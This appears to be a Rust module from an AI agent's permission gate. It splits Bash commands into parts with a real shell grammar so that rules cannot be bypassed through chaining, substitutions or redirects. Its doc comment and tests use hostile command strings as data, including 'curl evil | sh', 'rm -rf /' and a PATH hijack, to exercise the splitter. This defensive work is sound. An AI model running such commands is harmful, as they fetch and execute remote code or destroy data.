//! Splitting a Bash command into the parts permission rules are matched against.
//!
//! A rule like `Bash(git diff:*)` must never allow `git diff && rm -rf x`,
//! `git diff $(curl evil | sh)` or `(rm x)`, so the command is parsed with a
//! real shell grammar (tree-sitter-bash) and every simple command found
//! anywhere in it — lists, pipelines, subshells, `$(…)`, backticks, process
//! substitutions, loop and `if` bodies, function bodies — becomes one part.
//! Output redirections to files become parts of their own, which only a bare
//! `Bash` rule can allow. A command the grammar cannot parse is reported as
//! such, and the gate treats it as "ask".

use tree_sitter::{Node, Parser};

/// Longer commands are not parsed (and so never allowed by a rule).
const MAX_COMMAND_BYTES: usize = 100_000;
/// Deeper syntax trees are not walked.
const MAX_DEPTH: usize = 256;

/// One thing a command does that a rule must allow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Part {
    /// A simple command: its words, with quotes and escapes removed where the
    /// word is a literal (`'a b'` → `a b`), and the source text otherwise
    /// (`$HOME`). Leading `NAME=value` assignments are words too.
    Command(Vec<String>),
    /// Output redirected into a file (`> out.txt`).
    Redirect(String),
}

impl Part {
    /// The part as one line.
    #[cfg(test)]
    pub(crate) fn text(&self) -> String {
        match self {
            Part::Command(words) => words.join(" "),
            Part::Redirect(target) => format!("> {target}"),
        }
    }
}

/// The parts of a command, or why it could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Shell {
    /// Every part the command would run.
    Parts(Vec<Part>),
    /// The command could not be parsed; rules cannot be checked part by part.
    Unparsable(String),
}

/// Parses `command` into its parts.
pub(crate) fn parse(command: &str) -> Shell {
    if command.len() > MAX_COMMAND_BYTES {
        return Shell::Unparsable(format!(
            "the command is longer than {MAX_COMMAND_BYTES} bytes"
        ));
    }
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_bash::LANGUAGE.into())
        .is_err()
    {
        return Shell::Unparsable("the shell grammar could not be loaded".to_owned());
    }
    let Some(tree) = parser.parse(command, None) else {
        return Shell::Unparsable("the shell parser gave up".to_owned());
    };
    let root = tree.root_node();
    if root.has_error() {
        return Shell::Unparsable("it is not valid shell syntax".to_owned());
    }
    let mut walker = Walker {
        source: command.as_bytes(),
        parts: Vec::new(),
        failure: None,
    };
    walker.walk(root, 0);
    match walker.failure {
        Some(reason) => Shell::Unparsable(reason),
        None => Shell::Parts(walker.parts),
    }
}

/// Words of `command` split at whitespace and shell operators, for matching
/// deny rules against a command that could not be parsed (best effort).
pub(crate) fn rough_commands(command: &str) -> Vec<Vec<String>> {
    command
        .split(['\n', ';', '&', '|', '(', ')', '`', '{', '}'])
        .map(|segment| {
            segment
                .split_whitespace()
                .map(|word| word.trim_matches(['\'', '"', '$']).to_owned())
                .filter(|word| !word.is_empty())
                .collect::<Vec<_>>()
        })
        .filter(|words| !words.is_empty())
        .collect()
}

struct Walker<'s> {
    source: &'s [u8],
    parts: Vec<Part>,
    failure: Option<String>,
}

impl Walker<'_> {
    fn text(&self, node: Node<'_>) -> String {
        node.utf8_text(self.source).unwrap_or_default().to_owned()
    }

    fn walk(&mut self, node: Node<'_>, depth: usize) {
        if self.failure.is_some() {
            return;
        }
        if depth > MAX_DEPTH {
            self.failure = Some("it nests too deeply".to_owned());
            return;
        }
        match node.kind() {
            "command" => self.command(node),
            "declaration_command" | "unset_command" => {
                // `export PATH=…` changes what later commands run: a part of its own.
                let words = named_children(node)
                    .into_iter()
                    .map(|child| self.literal(child))
                    .collect::<Vec<_>>();
                let keyword = self
                    .text(node)
                    .split_whitespace()
                    .next()
                    .unwrap_or_default()
                    .to_owned();
                self.parts.push(Part::Command(
                    std::iter::once(keyword).chain(words).collect(),
                ));
            }
            "variable_assignment" if is_statement(node) => {
                self.parts.push(Part::Command(vec![self.text(node)]));
            }
            "variable_assignments" => {
                let words = named_children(node)
                    .into_iter()
                    .map(|child| self.text(child))
                    .collect();
                self.parts.push(Part::Command(words));
            }
            "file_redirect" => self.redirect(node),
            _ => {}
        }
        if node.kind() != "command" {
            for child in named_children(node) {
                self.walk(child, depth + 1);
            }
        } else {
            // The command's own words are done; what runs inside them is not.
            for child in named_children(node) {
                if child.kind() != "file_redirect" {
                    self.walk_inside(child, depth + 1);
                } else {
                    self.walk(child, depth + 1);
                }
            }
        }
    }

    /// Walks the children of a word for the commands substituted into it.
    fn walk_inside(&mut self, node: Node<'_>, depth: usize) {
        for child in named_children(node) {
            self.walk(child, depth);
        }
    }

    fn command(&mut self, node: Node<'_>) {
        let mut words = Vec::new();
        for child in named_children(node) {
            match child.kind() {
                "command_name"
                | "variable_assignment"
                | "word"
                | "string"
                | "raw_string"
                | "ansi_c_string"
                | "number"
                | "concatenation"
                | "simple_expansion"
                | "expansion"
                | "command_substitution"
                | "process_substitution"
                | "arithmetic_expansion"
                | "translated_string"
                | "brace_expression" => {
                    words.push(self.literal(child));
                }
                "file_redirect" | "herestring_redirect" | "heredoc_redirect" | "comment" => {}
                _ => words.push(self.text(child)),
            }
        }
        if !words.is_empty() {
            self.parts.push(Part::Command(words));
        }
    }

    fn redirect(&mut self, node: Node<'_>) {
        let operator = (0..node.child_count())
            .filter_map(|idx| node.child(u32::try_from(idx).ok()?))
            .find(|child| !child.is_named())
            .map(|child| child.kind())
            .unwrap_or_default();
        let Some(destination) = node.child_by_field_name("destination") else {
            return;
        };
        let target = self.literal(destination);
        let writes = match operator {
            ">" | ">>" | "&>" | "&>>" | ">|" => true,
            // `>&2` duplicates a descriptor; `>& file` writes the file.
            ">&" => !target.chars().all(|c| c.is_ascii_digit()) && target != "-",
            _ => false,
        };
        if writes && !matches!(target.as_str(), "/dev/null" | "/dev/stdout" | "/dev/stderr") {
            self.parts.push(Part::Redirect(target));
        }
    }

    /// A word's value when it is a literal, its source text otherwise.
    fn literal(&self, node: Node<'_>) -> String {
        self.literal_value(node).unwrap_or_else(|| self.text(node))
    }

    fn literal_value(&self, node: Node<'_>) -> Option<String> {
        match node.kind() {
            "word" | "number" if node.named_child_count() == 0 => Some(unescape(&self.text(node))),
            "raw_string" => {
                let text = self.text(node);
                Some(
                    text.trim_start_matches('\'')
                        .trim_end_matches('\'')
                        .to_owned(),
                )
            }
            "string" => {
                let mut value = String::new();
                for child in named_children(node) {
                    if child.kind() != "string_content" {
                        return None;
                    }
                    value.push_str(&unescape_double_quoted(&self.text(child)));
                }
                Some(value)
            }
            "command_name" | "concatenation" => {
                let mut value = String::new();
                let children = named_children(node);
                if children.is_empty() {
                    return Some(unescape(&self.text(node)));
                }
                for child in children {
                    value.push_str(&self.literal_value(child)?);
                }
                Some(value)
            }
            _ => None,
        }
    }
}

fn named_children(node: Node<'_>) -> Vec<Node<'_>> {
    (0..node.named_child_count())
        .filter_map(|idx| node.named_child(u32::try_from(idx).ok()?))
        .collect()
}

/// Whether an assignment stands as a statement of its own (`PATH=/x`), rather
/// than prefixing a command or sitting inside a declaration.
fn is_statement(node: Node<'_>) -> bool {
    !matches!(
        node.parent().map(|parent| parent.kind()),
        Some("command" | "declaration_command" | "variable_assignments")
    )
}

/// Removes backslash escapes of an unquoted word (`c\ d` → `c d`).
fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(next) => out.push(next),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Removes the escapes double quotes honour (`\"`, `\\`, `\$`, `` \` ``).
fn unescape_double_quoted(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\'
            && let Some(&next) = chars.peek()
            && matches!(next, '"' | '\\' | '$' | '`' | '\n')
        {
            chars.next();
            if next != '\n' {
                out.push(next);
            }
            continue;
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(command: &str) -> Vec<String> {
        match parse(command) {
            Shell::Parts(parts) => parts.iter().map(Part::text).collect(),
            Shell::Unparsable(reason) => panic!("{command}: unparsable: {reason}"),
        }
    }

    #[test]
    fn simple_commands_are_one_part_with_quotes_removed() {
        assert_eq!(commands("git diff --stat"), ["git diff --stat"]);
        assert_eq!(
            commands("git commit -m \"fix the bug\" 'a b' c\\ d"),
            ["git commit -m fix the bug a b c d"]
        );
        assert_eq!(commands("FOO=1 npm run build"), ["FOO=1 npm run build"]);
    }

    #[test]
    fn every_operator_splits_the_command_into_parts() {
        assert_eq!(
            commands("a && b || c; d | e & f"),
            ["a", "b", "c", "d", "e", "f"]
        );
        assert_eq!(commands("(cd x && make)"), ["cd x", "make"]);
        assert_eq!(commands("{ a; b; }"), ["a", "b"]);
        assert_eq!(commands("if true; then rm x; fi"), ["true", "rm x"]);
        assert_eq!(commands("for i in 1 2; do echo $i; done"), ["echo $i"]);
        assert_eq!(commands("f() { rm -rf y; }; f"), ["rm -rf y", "f"]);
    }

    #[test]
    fn substitutions_are_parts_of_their_own() {
        assert_eq!(
            commands("echo \"$(rm -rf /)\""),
            ["echo \"$(rm -rf /)\"", "rm -rf /"]
        );
        assert_eq!(commands("echo `id`"), ["echo `id`", "id"]);
        assert_eq!(commands("x=$(cat f)"), ["x=$(cat f)", "cat f"]);
        assert_eq!(commands("diff <(ls a) b"), ["diff <(ls a) b", "ls a"]);
        assert_eq!(commands("echo ${x:-$(id)}"), ["echo ${x:-$(id)}", "id"]);
        assert_eq!(commands("cat <<EOF\n$(id)\nEOF"), ["cat", "id"]);
        assert_eq!(
            commands("export PATH=/evil:$PATH"),
            ["export PATH=/evil:$PATH"]
        );
    }

    #[test]
    fn output_redirections_to_files_are_parts_and_descriptor_copies_are_not() {
        assert_eq!(commands("ls > out.txt 2>&1"), ["ls", "> out.txt"]);
        assert_eq!(
            commands("cargo test 2>/dev/null | tail"),
            ["cargo test", "tail"]
        );
        assert_eq!(commands("echo hi >>log"), ["echo hi", "> log"]);
        assert_eq!(commands("sort < in.txt"), ["sort"]);
    }

    #[test]
    fn broken_syntax_is_unparsable() {
        assert!(matches!(parse("echo 'unterminated"), Shell::Unparsable(_)));
        assert!(matches!(parse("a && && b"), Shell::Unparsable(_)));
        assert!(matches!(parse("if then fi"), Shell::Unparsable(_)));
    }

    #[test]
    fn rough_commands_split_at_operators() {
        assert_eq!(
            rough_commands("echo 'a && rm -rf x"),
            [vec!["echo", "a"], vec!["rm", "-rf", "x"]]
        );
    }
}
